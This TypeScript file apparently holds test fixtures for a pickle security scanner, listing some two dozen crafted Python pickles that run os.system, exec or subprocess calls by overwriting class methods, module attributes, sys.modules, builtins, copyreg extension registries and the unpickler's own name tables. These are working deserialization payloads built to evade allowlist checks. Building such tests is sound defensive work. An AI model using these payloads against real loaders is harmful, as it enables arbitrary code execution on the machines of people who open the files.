// Class: BUILD and item setting change an imported class, function or module, or the machinery a later call goes through.
import {
  addItems,
  appends,
  build,
  buildPickle,
  call,
  dict,
  emptyDict,
  get,
  global,
  int,
  list,
  none,
  op,
  pop,
  put,
  setItem,
  setItems,
  stackGlobal,
  text,
  tuple,
  u16,
} from '../pickle.ts';
import { C, executing, N, type Payload, push, python, shell } from './payload.ts';

const system = push(N('os', 'system'));
const check = { check: 'pickle-state-on-import' };

/** Sets attributes of an imported thing: the second half of a 2-tuple goes through setattr. */
function overwrite(
  target: ReturnType<typeof stackGlobal>,
  attributeName: string,
  value: ReturnType<typeof text>,
): ReturnType<typeof text> {
  return [build(target, tuple(none, dict(text(attributeName), value))), pop];
}

export const states: readonly Payload[] = [
  executing(
    'class-append',
    'append of a listed class becomes os.system',
    buildPickle(
      4,
      overwrite(stackGlobal('collections', 'UserDict'), 'append', system),
      call(stackGlobal('collections', 'UserDict')),
      text(shell),
      op('APPEND'),
    ),
    check,
  ),
  executing(
    'class-setstate',
    '__setstate__ of a listed class becomes os.system',
    buildPickle(
      4,
      overwrite(stackGlobal('collections', 'UserDict'), '__setstate__', system),
      build(call(stackGlobal('collections', 'UserDict')), text(shell)),
    ),
    check,
  ),
  executing(
    'class-new',
    '__new__ of a listed class becomes os.system',
    buildPickle(
      4,
      overwrite(stackGlobal('uuid', 'SafeUUID'), '_missing_', system),
      call(stackGlobal('uuid', 'SafeUUID'), text(shell)),
    ),
    check,
  ),
  executing(
    'class-setitem',
    '__setitem__ of a listed class',
    buildPickle(
      4,
      overwrite(
        stackGlobal('collections', 'UserDict'),
        '__setitem__',
        push(C('builtins', 'staticmethod', N('builtins', 'exec'))),
      ),
      setItems(call(stackGlobal('collections', 'UserDict')), text(python), emptyDict),
    ),
    check,
  ),
  executing(
    'module-attribute',
    'an attribute of a module that a later call uses',
    buildPickle(
      4,
      build(push(C('importlib', 'import_module', 'copyreg')), dict(text('_reconstructor'), system)),
      pop,
      call(stackGlobal('copyreg', '_reconstructor'), text(shell)),
    ),
  ),
  executing(
    'module-by-name',
    'a module reached as a plain name',
    buildPickle(
      4,
      build(stackGlobal('os', 'path'), dict(text('join'), system)),
      pop,
      call(stackGlobal('posixpath', 'join'), text(shell)),
    ),
    check,
  ),
  executing(
    'module-by-listed-import',
    'a module that another one imported',
    buildPickle(
      4,
      build(stackGlobal('random', '_os'), dict(text('fspath'), system)),
      pop,
      call(stackGlobal('os', 'fspath'), text(shell)),
    ),
    check,
  ),
  executing(
    'function-code',
    'the code of a listed function',
    buildPickle(
      4,
      build(
        stackGlobal('copyreg', '_reconstructor'),
        tuple(none, dict(text('__code__'), push(C('builtins', 'compile', python, 'x', 'exec')))),
      ),
      pop,
      call(stackGlobal('copyreg', '_reconstructor')),
    ),
    {},
  ),
  executing(
    'thread-state',
    'the state of a made object names what it runs',
    buildPickle(
      4,
      build(call(stackGlobal('threading', 'Thread')), dict(text('_target'), system, text('_args'), tuple(text(shell)))),
      put(0),
      pop,
      call(stackGlobal('threading', 'Thread.run'), get(0)),
    ),
  ),
  executing(
    'object-dunder-class',
    '__class__ by setattr',
    buildPickle(
      4,
      build(
        call(stackGlobal('threading', 'Thread')),
        tuple(none, dict(text('__class__'), stackGlobal('threading', 'Timer'))),
      ),
      dict(
        text('interval'),
        int(0),
        text('function'),
        system,
        text('args'),
        list(text(shell)),
        text('kwargs'),
        emptyDict,
        text('finished'),
        call(stackGlobal('threading', 'Event')),
      ),
      op('BUILD'),
      put(0),
      pop,
      call(stackGlobal('threading', 'Timer.run'), get(0)),
    ),
  ),
  executing(
    'environ-setitem',
    'SETITEM on os.environ',
    buildPickle(
      4,
      setItem(stackGlobal('os', 'environ'), text('PAGER'), text('x')),
      pop,
      call(stackGlobal('os', 'system'), text(shell)),
    ),
  ),
  executing(
    'sys-modules-setitem',
    'SETITEM puts os in the place of a listed module',
    buildPickle(
      4,
      setItem(stackGlobal('sys', 'modules'), text('datetime'), push(C('importlib', 'import_module', 'os'))),
      pop,
      call(stackGlobal('datetime', 'system'), text(shell)),
    ),
    {},
  ),
  executing(
    'builtins-dict-setitem',
    'SETITEM on the dict of builtins',
    buildPickle(
      4,
      setItem(stackGlobal('builtins', '__dict__'), text('int'), system),
      pop,
      call(stackGlobal('builtins', 'int'), text(shell)),
    ),
  ),
  executing(
    'sys-path-append',
    'APPEND on sys.path',
    buildPickle(4, appends(stackGlobal('sys', 'path'), text('.')), pop, call(stackGlobal('os', 'system'), text(shell))),
  ),
  executing(
    'compat-table-setitem',
    'the name table of the unpickler itself is changed',
    buildPickle(
      2,
      setItem(global('_compat_pickle', 'IMPORT_MAPPING'), text('datetime'), text('os')),
      pop,
      call(global('datetime', 'system'), text(shell)),
    ),
  ),
  executing(
    'compat-name-setitem',
    'one pair of the name table is changed',
    buildPickle(
      2,
      setItem(
        global('_compat_pickle', 'NAME_MAPPING'),
        tuple(text('datetime'), text('date')),
        tuple(text('os'), text('system')),
      ),
      pop,
      call(global('datetime', 'date'), text(shell)),
    ),
  ),
  executing(
    'extension-fill-and-use',
    'copyreg.add_extension, then EXT1',
    buildPickle(
      2,
      call(global('copyreg', 'add_extension'), text('os'), text('system'), int(7)),
      pop,
      call(op('EXT1', Uint8Array.of(7)), text(shell)),
    ),
    { check: 'pickle-extension-code' },
  ),
  executing(
    'extension-by-setitem',
    'the registry filled by SETITEM, then EXT2',
    buildPickle(
      2,
      setItem(global('copyreg', '_inverted_registry'), int(7), tuple(text('os'), text('system'))),
      pop,
      call(op('EXT2', u16(7)), text(shell)),
    ),
    {},
  ),
  executing(
    'extension-cache',
    'the cache of the registry holds the object itself',
    buildPickle(
      2,
      setItem(global('copyreg', '_extension_cache'), int(7), global('os', 'system')),
      pop,
      call(op('EXT4', Uint8Array.of(7, 0, 0, 0)), text(shell)),
    ),
    {},
  ),
  executing(
    'dispatch-table',
    'copyreg.dispatch_table, then copy',
    buildPickle(
      4,
      setItem(
        stackGlobal('copyreg', 'dispatch_table'),
        stackGlobal('builtins', 'complex'),
        push(C('operator', 'methodcaller', '__reduce__')),
      ),
      pop,
      call(stackGlobal('os', 'system'), text(shell)),
    ),
  ),
  executing(
    'meta-path-append',
    'APPEND to sys.meta_path',
    buildPickle(4, appends(stackGlobal('sys', 'meta_path'), none), pop, call(stackGlobal('os', 'system'), text(shell))),
  ),
  executing(
    'atexit-by-logging',
    'a listed class gets a property',
    buildPickle(
      4,
      overwrite(stackGlobal('collections', 'UserDict'), '__getstate__', system),
      call(stackGlobal('os', 'system'), text(shell)),
    ),
  ),
  executing(
    'instance-append',
    'the state of an object holds a callable under the name of a method',
    buildPickle(
      4,
      build(call(stackGlobal('collections', 'UserDict')), dict(text('append'), system)),
      text(shell),
      op('APPEND'),
    ),
  ),
  executing(
    'instance-add',
    'the same for ADDITEMS',
    buildPickle(
      4,
      addItems(build(call(stackGlobal('collections', 'UserDict')), dict(text('add'), system)), text(shell)),
    ),
  ),
  executing(
    'instance-setstate',
    'the state of an object holds a callable under __setstate__, and a second BUILD calls it',
    buildPickle(
      4,
      build(build(call(stackGlobal('collections', 'UserDict')), dict(text('__setstate__'), system)), text(shell)),
    ),
  ),
  executing(
    'instance-ordered-append',
    'a listed container whose append is in its state',
    buildPickle(
      4,
      build(
        call(stackGlobal('collections', 'OrderedDict')),
        dict(text('append'), stackGlobal('subprocess', 'getoutput')),
      ),
      text(shell),
      op('APPEND'),
    ),
  ),
];
